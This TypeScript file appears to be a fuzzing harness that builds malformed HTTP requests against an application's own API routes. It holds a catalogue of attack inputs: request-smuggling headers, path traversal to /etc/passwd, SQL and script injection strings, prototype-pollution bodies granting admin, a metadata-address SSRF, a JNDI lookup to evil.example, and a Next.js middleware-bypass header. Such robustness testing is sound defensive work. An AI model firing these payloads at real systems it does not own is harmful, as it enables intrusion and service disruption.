/** Requests that know our routes and are wrong in one or several places; bytes, so that nothing sets them right. */
import type { Random } from './random'
import { bodyFor, fill, isNamed, queries } from './routes'
import type { Route } from './routes'
import type { Names } from './scene'

export type HostileRequest = { name: string; bytes: Buffer }

type Header = [name: string, value: string]

export function hostileRequest(
  random: Random,
  route: Route,
  names: Names,
  origin: string,
  cookie: string,
): HostileRequest {
  const isOwnMethod = random.share() < 0.85
  const method = isOwnMethod ? random.pick(route.methods) : random.pick(oddMethods)
  const path = pathOf(random, route, names)
  const hasBody = method !== 'GET' && method !== 'HEAD' ? random.share() < 0.95 : random.share() < 0.05
  const body = hasBody ? bodyOf(random, method, route.pattern, names) : Buffer.alloc(0)
  const headers = headersOf(random, origin, cookie, body)
  const head = [
    `${method} ${path} HTTP/1.1`,
    ...headers.map(([name, value]) => `${name}: ${value}`),
    '',
    '',
  ].join('\r\n')
  return {
    name: `${method} ${path.slice(0, 160)} ${body.subarray(0, 200).toString('utf8')}`,
    bytes: Buffer.concat([Buffer.from(head, 'latin1'), body]),
  }
}

/** What is hardly HTTP. */
export function rawRequests(origin: string, cookie: string): HostileRequest[] {
  const host = `host: ${new URL(origin).host}\r\ncookie: ${cookie}\r\norigin: ${origin}\r\nconnection: close\r\n`
  const json = 'content-type: application/json\r\n'
  return Object.entries({
    'no host': 'GET /api/session HTTP/1.1\r\nconnection: close\r\n\r\n',
    'odd version': `GET /api/health HTTP/9.9\r\n${host}\r\n`,
    garbage: '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n',
    'bare line feeds': `GET /api/health HTTP/1.1\n${host.replaceAll('\r', '')}\n`,
    'folded header': `GET /api/conversations HTTP/1.1\r\n${host}x-a: 1\r\n 2\r\n\r\n`,
    'control characters': `GET /api/conversations HTTP/1.1\r\n${host}x-a: \x00\x01\x7f\r\n\r\n`,
    'two lengths': `POST /api/session HTTP/1.1\r\n${host}${json}content-length: 2\r\ncontent-length: 5\r\n\r\n{}`,
    'length and chunks': `POST /api/session HTTP/1.1\r\n${host}${json}content-length: 2\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n`,
    'negative length': `POST /api/session HTTP/1.1\r\n${host}${json}content-length: -1\r\n\r\n{}`,
    'huge chunk size': `POST /api/runs HTTP/1.1\r\n${host}${json}transfer-encoding: chunked\r\n\r\nffffffffffffffff\r\n{}`,
    'absolute address': `GET http://169.254.169.254/api/conversations HTTP/1.1\r\n${host}\r\n`,
    'double slash': `GET //example.org/api/conversations HTTP/1.1\r\n${host}\r\n`,
    upgrade: `GET /api/runs HTTP/1.1\r\n${host.replace('close', 'upgrade')}upgrade: websocket\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\nsec-websocket-version: 13\r\n\r\n`,
    expectation: `POST /api/session HTTP/1.1\r\n${host}${json}expect: the-moon\r\ncontent-length: 2\r\n\r\n{}`,
    'long header': `GET /api/conversations HTTP/1.1\r\n${host}x-a: ${'a'.repeat(20_000)}\r\n\r\n`,
    'many headers': `GET /api/conversations HTTP/1.1\r\n${host}${'x-a: 1\r\n'.repeat(1_500)}\r\n`,
    'long path': `GET /api/conversations/${'a'.repeat(12_000)} HTTP/1.1\r\n${host}\r\n`,
    'action of a page': `POST / HTTP/1.1\r\n${host}next-action: ${'0'.repeat(42)}\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\n[]`,
    'inner header of the framework': `GET /api/conversations HTTP/1.1\r\n${host}x-middleware-subrequest: proxy:proxy:proxy\r\nx-invoke-path: /api/ready\r\nrsc: 1\r\n\r\n`,
  }).map(([name, text]) => ({ name: `raw: ${name}`, bytes: Buffer.from(text, 'latin1') }))
}

const oddMethods = [
  'GET',
  'POST',
  'PUT',
  'PATCH',
  'DELETE',
  'HEAD',
  'OPTIONS',
  'PROPFIND',
  'SEARCH',
  'REPORT',
  'PURGE',
]

const oddParts = [
  '..',
  '.',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%5c..%5c',
  '%00',
  '%',
  '%ff%fe',
  '%F0%9F%98%80',
  '%E6%9C%88',
  '%C0%AE%C0%AE',
  '%E2%80%AE',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0',
  '1e309',
  '99999999999999999999',
  '9007199254740993',
  "1'%20OR%20'1'='1",
  '1;drop%20table%20runs',
  '%7B%7D',
  '[]',
  '*',
  '%25',
  '%0d%0aset-cookie:a=b',
  'a'.repeat(64),
  'a'.repeat(65),
  'a'.repeat(6_000),
  '-'.repeat(36),
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'a%2Fb',
  '%2F',
  'con',
]

function pathOf(random: Random, route: Route, names: Names): string {
  const isOdd = random.share() < 0.4
  const path = fill(route.pattern, (part) => {
    if (isOdd && random.share() < 0.8) return random.pick(oddParts)
    return isNamed(part, names) ? names[part] : 'a'
  })
  const known = queries[route.pattern] ?? { before: '', after: '', q: '' }
  if (random.share() < 0.4) return path
  const pairs = Object.entries(known).flatMap(([name, value]) => {
    if (random.share() < 0.15) return []
    const given =
      random.share() < 0.5 ? encodeURIComponent(value) : random.pick([...oddParts, '', '%', '=', '&&'])
    const pair = `${name}=${given}`
    return random.share() < 0.1 ? [pair, `${name}=${random.pick(oddParts)}`, `${name}[]=1`] : [pair]
  })
  if (random.share() < 0.2) pairs.push('__proto__[a]=1', 'constructor.prototype=1')
  return `${path}?${pairs.join('&').replace(/[ \r\n]/g, '+')}`
}

function headersOf(random: Random, origin: string, cookie: string, body: Buffer): Header[] {
  const { host } = new URL(origin)
  const often = random.share() < 0.75
  const headers: Header[] = [
    [
      'host',
      often || random.share() < 0.6
        ? host
        : random.pick(['evil.example', 'localhost', '[::1]', host.toUpperCase(), 'a'.repeat(300)]),
    ],
    ['connection', 'close'],
  ]
  const origins = [
    origin,
    origin,
    origin,
    origin,
    'null',
    'https://evil.example',
    `${origin}.evil.example`,
    `${origin}/`,
    '',
    '%00',
    'file://',
    'http://[::1',
  ]
  if (random.share() < 0.95) headers.push(['origin', often ? origin : random.pick(origins)])
  const cookies = [
    cookie,
    cookie,
    cookie,
    `${cookie}x`,
    cookie.slice(0, -3),
    '',
    '=',
    ';;;',
    '__proto__=1',
    cookie.replaceAll('%', ''),
    `${cookie}; ${cookie}`,
    `a=${'b'.repeat(4_000)}; ${cookie}`,
    cookie.replace(/=.*/, '=%E0%A4%A'),
  ]
  headers.push(['cookie', often ? cookie : random.pick(cookies)])
  const types = [
    'application/json',
    'application/json',
    'application/json; charset=utf-16',
    'APPLICATION/JSON;x',
    'application/jsonx',
    'text/plain',
    'multipart/form-data',
    'multipart/form-data; boundary=',
    'application/x-www-form-urlencoded',
    'application/xml',
    '',
    '\xff',
    'application/json, text/html',
  ]
  if (body.length > 0) headers.push(['content-type', often ? 'application/json' : random.pick(types)])
  if (random.share() < 0.3) headers.push(['x-moonlake-upload', '1'])
  if (random.share() < 0.15) headers.push(random.pick(moreHeaders))
  if (random.share() < 0.1) headers.push(random.pick(moreHeaders))
  headers.push(['content-length', String(body.length)])
  return headers
}

const moreHeaders: Header[] = [
  ['last-event-id', '999999999'],
  ['last-event-id', '-1'],
  ['last-event-id', '1e9'],
  ['last-event-id', '0x10'],
  ['last-event-id', '9'.repeat(400)],
  ['range', 'bytes=0-'],
  ['range', 'bytes=-0'],
  ['range', 'bytes=99999999999999-1'],
  ['range', `bytes=${'0-1,'.repeat(500)}0-1`],
  ['range', 'lines=1-2'],
  ['if-none-match', '*'],
  ['if-none-match', '"'.repeat(500)],
  ['if-range', 'Mon, 32 Foo 2026 25:61:61 GMT'],
  ['if-modified-since', 'never'],
  ['accept', 'text/html;q=9,*/*;q=-1'],
  ['accept-language', `${'zh-'.repeat(900)}x;q=1e9`],
  ['accept-language', '%,;=,,'],
  ['accept-encoding', 'gzip;q=0, br;q=, *'],
  ['content-encoding', 'gzip'],
  ['x-forwarded-for', '127.0.0.1, evil'],
  ['x-forwarded-host', 'evil.example'],
  ['x-forwarded-proto', 'javascript'],
  ['x-http-method-override', 'DELETE'],
  ['authorization', 'Bearer undefined'],
  ['user-agent', '\xe2\x80\xae\xff${jndi:ldap://evil.example}'],
  ['referer', `javascript:${'a'.repeat(3_000)}`],
  ['x-long', 'a'.repeat(8_000)],
  ['rsc', '1'],
  ['next-router-state-tree', '%5B%22'],
  ['next-action', 'x'],
  ['x-middleware-subrequest', 'proxy:proxy:proxy:proxy:proxy'],
  ['x-content-length', '5'],
]

const oddValues: unknown[] = [
  null,
  true,
  0,
  -1,
  1.5,
  -0,
  1e308,
  Number.MAX_SAFE_INTEGER + 2,
  '',
  ' ',
  '0',
  'NaN',
  '\u0000',
  '\uD800',
  '\uDFFF\uD800',
  '\uFEFF\u202E\u2028',
  'e\u0301'.repeat(3_000),
  '👩🏽‍🚀'.repeat(2_000),
  '月'.repeat(11_000),
  'a'.repeat(40_000),
  '../../../etc/passwd',
  "'; drop table runs; --",
  '<script>alert(1)</script>',
  '${7*7}{{7*7}}',
  '__proto__',
  'javascript:alert(1)',
  'http://169.254.169.254/latest',
  [],
  {},
  [[]],
  [null],
  { length: -1 },
  { toString: null },
  { $ne: null },
  Array.from({ length: 5_000 }, (_, index) => index),
]

function bodyOf(random: Random, method: string, pattern: string, names: Names): Buffer {
  const body = bodyFor(method, pattern, names)
  const kind = random.share()
  if (kind < 0.1) return Buffer.from(JSON.stringify(body))
  if (kind < 0.75) return Buffer.from(damage(random, body))
  return random.pick(brokenBodies)(JSON.stringify(body), random)
}

/** JSON with some values, keys or whole parts replaced. */
function damage(random: Random, body: unknown): string {
  const rate = random.pick([0.1, 0.3, 0.8])
  const change = (value: unknown): unknown => {
    if (random.share() < rate / 3) return random.pick(oddValues)
    if (Array.isArray(value)) {
      const items = value.map(change)
      return random.share() < rate / 4 ? Array.from({ length: 300 }, () => items[0] ?? null) : items
    }
    if (typeof value !== 'object' || value === null)
      return random.share() < rate ? random.pick(oddValues) : value
    const entries = Object.entries(value).flatMap(([name, inner]): [string, unknown][] =>
      random.share() < rate / 8 ? [] : [[name, change(inner)]],
    )
    if (random.share() < rate / 3) entries.push([random.pick(oddKeys), random.pick(oddValues)])
    return Object.fromEntries(entries)
  }
  const text = JSON.stringify(change(body)) ?? 'null'
  // Keys that an object literal would swallow.
  return random.share() < 0.1 && text.startsWith('{')
    ? `{"__proto__":{"isAdmin":true,"role":"admin"},"constructor":{"prototype":{"a":1}},${text.slice(1).replace(/^\}/, '"a":1}')}`
    : text
}

const oddKeys = [
  '__proto__',
  'then',
  'constructor',
  'prototype',
  'toJSON',
  'hasOwnProperty',
  '',
  '0',
  '\u0000',
  'userId',
  'role',
  'isAdmin',
  'a'.repeat(5_000),
]

const brokenBodies: ((json: string, random: Random) => Buffer)[] = [
  (json, random) => Buffer.from(json.slice(0, random.below(json.length))),
  (json) => Buffer.from(json + json),
  (json) => Buffer.from(`\uFEFF${json}`),
  (json) => Buffer.from(json, 'utf16le'),
  (json) => Buffer.from(json.replaceAll('"', "'")),
  (json) => Buffer.from(json.replace(/:"/, ':"\u0007')),
  (json) => Buffer.from(json.replace('}', ',}')),
  () => Buffer.from('['.repeat(100_000)),
  () => Buffer.from('{"a":'.repeat(20_000) + '1' + '}'.repeat(20_000)),
  () => Buffer.from('[' + '1e999,'.repeat(1_000) + '-1e999]'),
  () => Buffer.from(`{"question":${'9'.repeat(50_000)}}`),
  () => Buffer.from('"\\ud800"'),
  () => Buffer.alloc(300 * 1024, 32),
  () => Buffer.alloc(2_000, 0xff),
  () => Buffer.alloc(64),
  (_, random) => Buffer.from(Array.from({ length: 500 }, () => random.below(256))),
  () => Buffer.from('--b\r\ncontent-disposition: form-data; name="__proto__"\r\n\r\n1\r\n--b--'),
  () => Buffer.from('a=1&b[]=2&__proto__[x]=1'),
  () => Buffer.from('null'),
  () => Buffer.from('""'),
]
